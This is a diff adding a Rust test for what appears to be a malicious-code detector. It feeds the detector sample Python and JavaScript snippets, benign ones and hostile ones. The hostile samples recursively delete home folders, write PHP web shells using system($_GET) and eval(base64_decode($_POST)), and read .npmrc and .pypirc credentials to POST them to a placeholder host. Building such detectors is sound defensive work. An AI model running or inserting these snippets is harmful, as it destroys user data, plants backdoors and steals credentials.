@@ -102,3 +102,46 @@ fn each_of_a_few_files_that_a_condition_keeps_is_read() {
         ],
     );
 }
+
+#[test]
+fn folders_of_people_that_are_deleted_and_pages_that_run_what_is_sent() {
+    all_are(
+        Dialect::Python,
+        Rule::HomeDestroyed,
+        &[
+            "import shutil, os\nshutil.rmtree(os.path.expanduser('~/Desktop'))\n",
+            "import shutil\nfrom pathlib import Path\nfor n in ('Pictures', 'Documents'):\n    shutil.rmtree(Path.home() / n, True)\n",
+        ],
+    );
+    all_are(
+        Dialect::JavaScript,
+        Rule::HomeDestroyed,
+        &[
+            "const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });",
+            "import { rm } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport path from 'node:path';\nawait rm(path.join(homedir(), 'Documents'), { recursive: true });",
+        ],
+    );
+    all_are(
+        Dialect::Python,
+        Rule::WebShell,
+        &[
+            "open('/var/www/html/a.php', 'w').write('<?php system($_GET[\"q\"]); ?>')\n",
+            "from pathlib import Path\nPath('wp-content/uploads/.i.php').write_text('<?php @eval(base64_decode($_POST[1]));')\n",
+        ],
+    );
+    all_are_honest(
+        Dialect::Python,
+        &[
+            "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'tool')\nshutil.rmtree('build')\n",
+            "import shutil, sys\nfrom pathlib import Path\nt = Path(sys.argv[1])\nif t == Path.home():\n    sys.exit('refused')\nshutil.rmtree(t)\n",
+            "RULE = 'system($_GET'\nopen('report.php', 'w').write('<?php echo $_GET[\"a\"];')\nopen('tests/shell.php', 'w').write('<?php system($_GET[0]);')\n",
+        ],
+    );
+    all_are(
+        Dialect::JavaScript,
+        Rule::SecretSent,
+        &[
+            "const fs = require('fs'), os = require('os');\nconst read = (n) => { try { return fs.readFileSync(os.homedir() + '/' + n, 'utf8'); } catch { return ''; } };\nconst all = ['.npmrc', '.pypirc'].reduce((o, n) => ({ ...o, [n]: read(n) }), {});\nfetch('https://a.example.invalid', { method: 'POST', body: JSON.stringify(all) });",
+        ],
+    );
+}
